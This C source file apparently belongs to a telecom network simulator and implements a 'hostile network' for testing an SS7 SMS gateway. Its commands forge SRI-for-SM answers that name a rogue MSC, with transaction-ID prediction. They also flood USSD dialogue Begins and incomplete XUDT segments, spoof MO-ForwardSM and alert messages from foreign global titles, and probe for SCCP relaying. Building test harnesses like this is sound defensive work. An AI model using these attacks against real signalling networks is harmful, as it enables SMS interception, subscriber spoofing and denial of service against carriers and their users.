/* A hostile network, for the gateway's tests: what a spoofed or rogue SS7
 * peer sends (VTY "attack ..."), from any calling GT. The forged TCAP goes
 * out raw from its own SSN, so nothing here leaves state in netsim's MAP
 * instances; MO and alerts from foreign GTs use the MSC's and HLR's own
 * procedures with the calling GT replaced. */

#include <errno.h>
#include <stdlib.h>
#include <string.h>
#include <talloc.h>
#include <osmocom/core/logging.h>
#include <osmocom/core/timer.h>
#include <osmocom/core/utils.h>
#include <osmocom/vty/command.h>
#include <osmocom/vty/vty.h>
#include <sigway/common/logging.h>
#include <sigway/map/map_sm.h>
#include <sigway/sccp/sccp_codec.h>
#include <sigway/sccp/sccp_layer.h>
#include <sigway/tcap/tcap_codec.h>
#include "netsim.h"

#define ATTACK_SSN 251
#define FLOOD_BURST 200		/* Begins per loop turn: the flood must not starve the loop */

static struct {
	struct sccp_layer *layer;
	struct sccp_user *sccp;
	uint64_t sent, answers;
	/* forged SRI-for-SM answers: armed until the next SRI the HLR sees */
	bool forge_armed;
	unsigned int forge_predict;	/* also forge for the next N TIDs counting up */
	char forge_from[SCCP_GT_DIGITS_MAX + 1];
	char forge_msc[SCCP_GT_DIGITS_MAX + 1];
	unsigned int forged;
	/* Begin flood */
	struct osmo_timer_list flood_timer;
	uint64_t flood_left;
	uint32_t flood_tid;
	char flood_from[SCCP_GT_DIGITS_MAX + 1];
	char flood_to[SCCP_GT_DIGITS_MAX + 1];
	uint8_t flood_to_ssn;
} atk;

static void rx(void *priv, const struct sccp_unitdata *ud)
{
	atk.answers++;
}

static const struct sccp_user_ops attack_ops = { .unitdata_ind = rx };

static int send_tcap(const char *to_gt, uint8_t to_ssn, const char *from_gt, uint8_t from_ssn,
		     const struct tcap_tx_msg *tx)
{
	uint8_t buf[256];
	struct sccp_unitdata ud = { 0 };
	int n = tcap_encode(buf, sizeof(buf), tx);
	if (n < 0 || sccp_addr_set_e164(&ud.called, to_gt, to_ssn) < 0 ||
	    sccp_addr_set_e164(&ud.calling, from_gt, from_ssn) < 0)
		return -EINVAL;
	ud.data = buf;
	ud.len = (size_t)n;
	atk.sent++;
	return sccp_user_unitdata_req(atk.sccp, &ud);
}

/* ------------------------------------------------ forged SRI answers */

/* A TC-END to dtid with an SRI-for-SM result naming the rogue MSC */
static void forge_end(const struct sccp_addr *gw, uint32_t dtid)
{
	uint8_t res[64], comp[96];
	struct map_sri_sm_res r = { .imsi = "262019999999999", .network_node = { true, 0x91 } };
	osmo_strlcpy(r.network_node.digits, atk.forge_msc, sizeof(r.network_node.digits));
	int rl = map_enc_sri_sm_res(res, sizeof(res), &r);
	struct tcap_component c = { .type = TCAP_COMP_RESULT_LAST, .invoke_id_present = true, .invoke_id = 1,
				    .op_present = true, .opcode = MAP_OP_SRI_FOR_SM, .param = res,
				    .param_len = rl > 0 ? rl : 0 };
	int cl = tcap_encode_component(comp, sizeof(comp), &c);
	struct tcap_tx_msg tx = { .type = TCAP_MSG_END, .dtid_present = true, .dtid_len = 4,
				  .dtid = { dtid >> 24, dtid >> 16, dtid >> 8, dtid },
				  .components = comp, .components_len = cl > 0 ? cl : 0 };
	send_tcap(gw->gt.digits, SCCP_SSN_MSC, atk.forge_from, SCCP_SSN_HLR, &tx);
	atk.forged++;
}

void netsim_attack_sri_seen(const struct sccp_addr *gw, const char *tid_hex)
{
	if (!atk.forge_armed || strlen(tid_hex) != 8)
		return;
	atk.forge_armed = false;
	uint32_t tid = (uint32_t)strtoul(tid_hex, NULL, 16);
	/* the race: an answer to this very dialogue before the HLR's own */
	forge_end(gw, tid);
	/* the prediction: answers waiting for the dialogues that come next */
	for (unsigned int i = 1; i <= atk.forge_predict; i++)
		forge_end(gw, tid + i);
	LOGP(DNETSIM, LOGL_NOTICE, "attack: forged SRI-for-SM answers from %s naming MSC %s (TID %s, +%u predicted)\n",
	     atk.forge_from, atk.forge_msc, tid_hex, atk.forge_predict);
}

/* ------------------------------------------------------- Begin flood */

/* processUnstructuredSS-Request Begins that nobody continues */
static void flood_cb(void *data)
{
	static const uint8_t ussd_arg[] = { 0x30, 0x0a, 0x04, 0x01, 0x0f, 0x04, 0x05, 0xaa, 0x98, 0x0c, 0x36, 0x02 };
	uint8_t comp[64];
	struct tcap_component c = { .type = TCAP_COMP_INVOKE, .invoke_id_present = true, .invoke_id = 1,
				    .op_present = true, .opcode = MAP_OP_PROCESS_USS, .param = ussd_arg,
				    .param_len = sizeof(ussd_arg) };
	int cl = tcap_encode_component(comp, sizeof(comp), &c);
	for (int i = 0; i < FLOOD_BURST && atk.flood_left; i++, atk.flood_left--) {
		struct tcap_tx_msg tx = { .type = TCAP_MSG_BEGIN, .otid_present = true, .otid = ++atk.flood_tid,
					  .dialogue = { .type = TCAP_DLG_AARQ, .acn_present = true },
					  .components = comp, .components_len = cl };
		map_acn(&tx.dialogue.acn, MAP_AC_NETWORK_USSD, 2);
		/* from the attacker's own SSN: every answer (a refusal, a USSD menu) ends
		 * here, nothing in netsim's MAP instances answers for it */
		send_tcap(atk.flood_to, atk.flood_to_ssn, atk.flood_from, ATTACK_SSN, &tx);
	}
	if (atk.flood_left)
		osmo_timer_schedule(&atk.flood_timer, 0, 1000);
}

/* ------------------------------------------------------ raw SCCP */

/* A UDT or a first XUDT segment from `from` to `called`, straight to a point
 * code (past our own GT translation) */
static int send_raw_sccp(uint32_t dpc, const char *called, const char *from, bool first_segment, uint32_t ref)
{
	static const uint8_t tcap_begin[] = { 0x62, 0x0a, 0x48, 0x04, 0x00, 0x00, 0x00, 0x01, 0x6c, 0x02, 0xa1, 0x00 };
	uint8_t buf[300];
	struct sccp_msg m = { .type = first_segment ? SCCP_MSGT_XUDT : SCCP_MSGT_UDT, .hop_counter = 15,
			      .return_on_error = true, .data = tcap_begin, .len = sizeof(tcap_begin) };
	if (sccp_addr_set_e164(&m.called, called, SCCP_SSN_HLR) < 0 ||
	    sccp_addr_set_e164(&m.calling, from, SCCP_SSN_MSC) < 0)
		return -EINVAL;
	if (first_segment) {
		m.seg_present = true;
		m.seg = (struct sccp_segmentation){ .first = true, .remaining = 1, .local_ref = ref };
	}
	int n = sccp_msg_encode(buf, sizeof(buf), &m);
	if (n < 0)
		return -EINVAL;
	atk.sent++;
	return sccp_layer_send_raw(atk.layer, dpc, buf, n);
}

/* -------------------------------------------------------------- VTY */

static bool gt_ok(struct vty *vty, const char *gt)
{
	if (*gt && strlen(gt) <= SCCP_GT_DIGITS_MAX && strspn(gt, "0123456789") == strlen(gt))
		return true;
	vty_out(vty, "%% a GT of 1 to %d digits%s", SCCP_GT_DIGITS_MAX, VTY_NEWLINE);
	return false;
}

DEFUN(attack_forge_sri, attack_forge_sri_cmd, "attack forge-sri-answer from-gt GT msc-gt GT predict <0-100>",
      "Act as a hostile network\n"
      "When the HLR next gets an SRI-for-SM, first send the gateway a forged answer (same TID) and\n"
      "forged answers to the next TIDs counting up\n"
      "From\n" "The rogue HLR's GT\n" "Naming\n" "The rogue MSC's GT\n" "Also this many next TIDs\n" "Count\n")
{
	if (!gt_ok(vty, argv[0]) || !gt_ok(vty, argv[1]))
		return CMD_WARNING;
	osmo_strlcpy(atk.forge_from, argv[0], sizeof(atk.forge_from));
	osmo_strlcpy(atk.forge_msc, argv[1], sizeof(atk.forge_msc));
	atk.forge_predict = atoi(argv[2]);
	atk.forge_armed = true;
	vty_out(vty, "armed%s", VTY_NEWLINE);
	return CMD_SUCCESS;
}

#define BEGIN_FLOOD_STR "attack begin-flood <1-10000000> from-gt GT to-gt GT"
#define BEGIN_FLOOD_HELP "Act as a hostile network\n" "USSD Begins (processUnstructuredSS-Request) nobody continues\n" \
	"How many\n" "From\n" "Calling GT\n" "To\n" "The gateway's GT\n"

static int begin_flood(struct vty *vty, const char **argv, uint8_t to_ssn)
{
	if (!gt_ok(vty, argv[1]) || !gt_ok(vty, argv[2]))
		return CMD_WARNING;
	if (atk.flood_left) {
		vty_out(vty, "%% a flood is still running (show attack)%s", VTY_NEWLINE);
		return CMD_WARNING;
	}
	atk.flood_left = strtoull(argv[0], NULL, 10);
	osmo_strlcpy(atk.flood_from, argv[1], sizeof(atk.flood_from));
	osmo_strlcpy(atk.flood_to, argv[2], sizeof(atk.flood_to));
	atk.flood_to_ssn = to_ssn;
	osmo_timer_schedule(&atk.flood_timer, 0, 0);
	vty_out(vty, "flooding%s", VTY_NEWLINE);
	return CMD_SUCCESS;
}

DEFUN(attack_begin_flood, attack_begin_flood_cmd, BEGIN_FLOOD_STR, BEGIN_FLOOD_HELP)
{
	return begin_flood(vty, argv, SCCP_SSN_MSC);
}

/* the called subsystem: a gateway that serves USSD on the gsmSCF's (147) */
DEFUN(attack_begin_flood_ssn, attack_begin_flood_ssn_cmd, BEGIN_FLOOD_STR " to-ssn <2-254>",
      BEGIN_FLOOD_HELP "To the subsystem (without: 8, the MSC's)\n" "SSN (147: the gsmSCF's)\n")
{
	return begin_flood(vty, argv, (uint8_t)atoi(argv[3]));
}

/* MO from a foreign MSC, to a wrong SC, without originator, odd UCS2 */
DEFUN(attack_mo, attack_mo_cmd,
      "attack mo <1-100000> MSISDN DEST (foreign-msc|wrong-sc|empty-oa|odd-ucs2|parts) GT",
      "Act as a hostile network\n" "MO-ForwardSM the gateway should refuse\n" "How many\n"
      "The claimed originator\n" "Destination (digits)\n"
      "From another network's MSC: GT is its GT\n" "For another service centre: GT is its address\n"
      "Without originator digits (GT: the calling MSC)\n" "UCS2 text of an odd length (GT: the calling MSC)\n"
      "First parts of long messages that never complete (GT: the calling MSC)\n" "GT\n")
{
	struct netsim_mo_opts o = { 0 };
	const char *kind = argv[3];
	if (!gt_ok(vty, argv[4]))
		return CMD_WARNING;
	if (!strcmp(kind, "wrong-sc"))
		o.da_gt = argv[4];
	else
		o.from_gt = argv[4];
	o.empty_oa = !strcmp(kind, "empty-oa");
	o.odd_ucs2 = !strcmp(kind, "odd-ucs2");
	bool parts = !strcmp(kind, "parts");
	int n = atoi(argv[0]), sent = 0;
	static const char long_text[] = "This text needs two parts of a concatenated message, and only the first "
					"part is ever sent by this handset, so the rest never comes to the SMSC at all: "
					"the SMSC keeps the part waiting for the others.";
	for (int i = 0; i < n; i++)
		if (netsim_msc_send_mo(argv[1], argv[2], parts ? long_text : "spoof", parts ? NETSIM_MO_FIRST_ONLY :
				       NETSIM_MO_IN_ORDER, &o) >= 0)
			sent++;
	vty_out(vty, "sent %d%s", sent, VTY_NEWLINE);
	return CMD_SUCCESS;
}

DEFUN(attack_alert, attack_alert_cmd, "attack alert MSISDN to-sc GT from-gt GT",
      "Act as a hostile network\n" "alertServiceCentre from a GT that is not the subscriber's HLR\n"
      "The subscriber\n" "To\n" "The service centre\n" "From\n" "The spoofed calling GT\n")
{
	if (!gt_ok(vty, argv[1]) || !gt_ok(vty, argv[2]) || netsim_hlr_alert_sc_from(argv[0], argv[1], argv[2]) < 0)
		return CMD_WARNING;
	vty_out(vty, "sent%s", VTY_NEWLINE);
	return CMD_SUCCESS;
}

DEFUN(attack_relay, attack_relay_cmd, "attack relay-probe <0-16383> called-gt GT from-gt GT",
      "Act as a hostile network\n"
      "A message to a point code for a GT it does not own: does it relay traffic for anybody?\n"
      "The point code (integer)\n" "Called\n" "A GT of another network\n" "From\n" "Calling GT\n")
{
	if (!gt_ok(vty, argv[1]) || !gt_ok(vty, argv[2]) || send_raw_sccp(atoi(argv[0]), argv[1], argv[2], false, 0) < 0)
		return CMD_WARNING;
	vty_out(vty, "sent%s", VTY_NEWLINE);
	return CMD_SUCCESS;
}

DEFUN(attack_segments, attack_segments_cmd, "attack segment-flood <1-100000> <0-16383> called-gt GT from-gt GT",
      "Act as a hostile network\n" "First XUDT segments whose rest never comes\n" "How many\n"
      "The point code (integer)\n" "Called\n" "The gateway's GT\n" "From\n" "Calling GT\n")
{
	int n = atoi(argv[0]), sent = 0;
	if (!gt_ok(vty, argv[2]) || !gt_ok(vty, argv[3]))
		return CMD_WARNING;
	for (int i = 0; i < n; i++)
		if (send_raw_sccp(atoi(argv[1]), argv[2], argv[3], true, 0x100000 + i) == 0)
			sent++;
	vty_out(vty, "sent %d%s", sent, VTY_NEWLINE);
	return CMD_SUCCESS;
}

DEFUN(show_attack, show_attack_cmd, "show attack", SHOW_STR "What the hostile network sent and got back\n")
{
	vty_out(vty, "sent %llu answers %llu forged-sri %u flood-left %llu%s", (unsigned long long)atk.sent,
		(unsigned long long)atk.answers, atk.forged, (unsigned long long)atk.flood_left, VTY_NEWLINE);
	return CMD_SUCCESS;
}

void netsim_attack_vty_init(void)
{
	install_element(ENABLE_NODE, &attack_forge_sri_cmd);
	install_element(ENABLE_NODE, &attack_begin_flood_cmd);
	install_element(ENABLE_NODE, &attack_begin_flood_ssn_cmd);
	install_element(ENABLE_NODE, &attack_mo_cmd);
	install_element(ENABLE_NODE, &attack_alert_cmd);
	install_element(ENABLE_NODE, &attack_relay_cmd);
	install_element(ENABLE_NODE, &attack_segments_cmd);
	install_element_ve(&show_attack_cmd);
}

int netsim_attack_start(void *ctx, struct ss7_stack *stack)
{
	osmo_timer_setup(&atk.flood_timer, flood_cb, NULL);
	atk.layer = stack->sccp;
	atk.sccp = sccp_user_bind(stack->sccp, ATTACK_SSN, &attack_ops, NULL);
	return atk.sccp ? 0 : -EBUSY;
}
